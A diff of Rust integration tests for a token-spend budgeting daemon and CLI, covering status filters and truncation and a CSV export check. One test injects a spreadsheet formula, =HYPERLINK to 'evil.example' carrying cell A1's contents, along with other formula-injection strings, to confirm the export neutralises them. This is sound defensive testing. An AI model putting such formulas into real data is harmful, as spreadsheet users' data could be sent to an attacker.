@@ -400,7 +400,7 @@ fn status_table_filters_and_watch() {
     let only_b = d.cli_json(&["status", "--label", "team=b"]);
     assert_eq!(only_b["budgets"].as_array().unwrap().len(), 1);
     assert_eq!(only_b["budgets"][0]["key"], "team=b");
-    let none = d.cli(&["status", "--budget", "no-such-budget"]).ok();
+    let none = d.cli(&["status", "--label", "team=z"]).ok();
     assert_eq!(none.stdout, "no bucket matches the filter\n");
     let top = d.cli_json(&["status", "--limit", "1"]);
     assert_eq!(top["budgets"].as_array().unwrap().len(), 1);
@@ -428,6 +428,112 @@ fn status_table_filters_and_watch() {
         .ok()
         .json_lines();
     assert_eq!(watch_json.len(), 2);
+}
+
+/// Per-team budgets of one org (`org` pinned by `match`), and a budget of tokens only.
+const ORG_POLICY: &str = r#"
+[[budget]]
+id = "acme-teams"
+match = { org = "acme" }
+group_by = ["team"]
+max_usd = 1
+
+[[budget]]
+id = "tokens"
+max_tokens = 100000
+"#;
+
+/// `status` online and offline: an unknown budget is an error, a cut table says how many rows
+/// there were, a label pinned by a budget's `match` finds its buckets, and what remains is shown
+/// in the units of each limit.
+#[test]
+fn status_refuses_an_unknown_budget_says_when_it_cut_and_finds_pinned_labels() {
+    let mut d = Daemon::start_with_config(ORG_POLICY);
+    for (n, team) in ["a", "b", "c"].into_iter().enumerate() {
+        d.cli_json(&[
+            "record",
+            "--model",
+            "gpt-4o",
+            "--label",
+            "org=acme",
+            "--label",
+            &format!("team={team}"),
+            "--input-tokens",
+            &(1000 * (n + 1)).to_string(),
+            "--output-tokens",
+            "100",
+        ]);
+    }
+    let check = |mode: &str, run: &dyn Fn(&[&str]) -> bursar_tests::CliOutput| {
+        let unknown = run(&["status", "--budget", "acme-teamz"]);
+        assert_eq!(unknown.code, Some(1), "{mode}: {unknown:?}");
+        assert!(unknown.stdout.is_empty(), "{mode}: {unknown:?}");
+        assert_one_clean_error_line(&unknown.stderr);
+        assert!(
+            unknown.stderr.contains("not_found") && unknown.stderr.contains("acme-teamz"),
+            "{mode}: {}",
+            unknown.stderr
+        );
+
+        let cut = run(&["status", "--limit", "2"]).ok().stdout;
+        assert_eq!(
+            cut.lines().count(),
+            1 + 2 + 1,
+            "{mode}: header, 2 rows, a note:\n{cut}"
+        );
+        assert!(
+            cut.ends_with(
+                "showing 2 of 4 buckets (the most utilized); a larger --limit shows more\n"
+            ),
+            "{mode}:\n{cut}"
+        );
+        let whole = run(&["status"]).ok().stdout;
+        assert!(!whole.contains("showing"), "{mode}: nothing cut:\n{whole}");
+        let cut_json = run(&["--json", "status", "--limit", "2"]).ok().json();
+        assert_eq!(cut_json["total"], 4, "{mode}: {cut_json}");
+        assert_eq!(cut_json["truncated"], true, "{mode}: {cut_json}");
+
+        let acme = run(&["--json", "status", "--label", "org=acme"])
+            .ok()
+            .json();
+        let keys: Vec<&str> = acme["budgets"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|b| b["key"].as_str().unwrap())
+            .collect();
+        assert_eq!(keys, ["team=c", "team=b", "team=a"], "{mode}: {acme}");
+        let acme_b = run(&[
+            "--json", "status", "--label", "org=acme", "--label", "team=b",
+        ])
+        .ok()
+        .json();
+        assert_eq!(acme_b["total"], 1, "{mode}: {acme_b}");
+
+        // 6000 + 300 tokens of 100000 used: the tokens-only budget shows tokens left, no dollars.
+        let table = run(&["status", "--budget", "tokens"]).ok().stdout;
+        assert!(
+            table.lines().next().unwrap().contains("REMAINING"),
+            "{mode}:\n{table}"
+        );
+        let row = table.lines().nth(1).unwrap();
+        assert!(
+            row.contains("6300 / 100000 tok") && row.contains("93700 tok"),
+            "{mode}:\n{table}"
+        );
+        assert!(
+            !row.contains('$'),
+            "{mode}: no spend limit, no dollars:\n{table}"
+        );
+        let teams = run(&["status", "--budget", "acme-teams"]).ok().stdout;
+        assert!(
+            teams.contains("$0.0085 / $1.00") && teams.contains("$0.9915"),
+            "{mode}:\n{teams}"
+        );
+    };
+    check("online", &|args| d.cli(args));
+    assert!(d.terminate().success());
+    check("offline", &|args| d.offline(args));
 }
 
 #[test]
@@ -610,6 +716,107 @@ fn export_csv_and_jsonl_have_one_line_per_event() {
     assert_eq!(bad.code, Some(1));
     assert_one_clean_error_line(&bad.stderr);
     assert!(bad.stderr.contains("RFC 3339"), "{}", bad.stderr);
+}
+
+/// The cells of a CSV text (RFC 4180: quoted cells may hold `,`, `""` and line breaks).
+fn csv_records(text: &str) -> Vec<Vec<String>> {
+    let (mut records, mut record, mut cell) = (Vec::new(), Vec::new(), String::new());
+    let (mut quoted, mut chars) = (false, text.chars().peekable());
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') if cell.is_empty() => quoted = true,
+            (false, ',') => record.push(std::mem::take(&mut cell)),
+            (false, '\n') => {
+                record.push(std::mem::take(&mut cell));
+                records.push(std::mem::take(&mut record));
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    assert!(
+        !quoted && cell.is_empty() && record.is_empty(),
+        "CSV ends mid-line"
+    );
+    records
+}
+
+#[test]
+fn exported_csv_shows_agent_chosen_formulas_as_text_and_keeps_numbers_numbers() {
+    let d = Daemon::start_with_config(TEAM_POLICY);
+    let mut c = d.client();
+    let link = r#"=HYPERLINK("http://evil.example/?d="&A1,"click")"#;
+    let a = c.call(
+        json!({"op":"record","event_id":link,"labels":{"team":"+SUM(1;2)"},
+                          "model":"@evil","usage":{"input_tokens":1}}),
+    );
+    assert_eq!(a["ok"], true, "{a}");
+    let r = c.call(
+        json!({"op":"reserve","reservation_id":"-2+3","labels":{"team":"a"},
+                          "model":"gpt-4o","estimate":{"input_tokens":1,"max_output_tokens":1}}),
+    );
+    assert_eq!(r["ok"], true, "{r}");
+
+    let csv = d.cli(&["export", "--format", "csv"]).ok().stdout;
+    assert!(
+        csv.contains(r#","'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")","#),
+        "neutralised, then quoted as CSV requires:\n{csv}"
+    );
+    let records = csv_records(&csv);
+    let header = &records[0];
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let usage = records
+        .iter()
+        .find(|r| r[column("type")] == "usage_recorded")
+        .unwrap();
+    assert_eq!(usage[column("event_id")], format!("'{link}"));
+    assert_eq!(usage[column("model")], "'@evil");
+    assert!(
+        usage[column("labels")].contains("team=+SUM(1;2)"),
+        "{usage:?}"
+    );
+    let hold = records
+        .iter()
+        .find(|r| r[column("type")] == "reservation_created")
+        .unwrap();
+    assert_eq!(hold[column("reservation_id")], "'-2+3");
+    // No cell a spreadsheet would run as a formula; the daemon's numbers stay plain numbers.
+    let numbers = [
+        "seq",
+        "ts",
+        "actor_uid",
+        "actor_gid",
+        "actor_pid",
+        "input_tokens",
+        "output_tokens",
+        "cached_input_tokens",
+        "cache_write_tokens",
+        "requests",
+        "cost_micros",
+        "cost_usd",
+        "price_version",
+        "hold_micros",
+    ];
+    for record in &records[1..] {
+        assert_eq!(record.len(), header.len(), "{record:?}");
+        for (name, cell) in header.iter().zip(record) {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{name} = {cell:?} would run as a formula"
+            );
+            if numbers.contains(&name.as_str()) && !cell.is_empty() {
+                assert!(
+                    cell.parse::<f64>().is_ok(),
+                    "{name} = {cell:?} is not a number"
+                );
+            }
+        }
+    }
 }
 
 #[test]
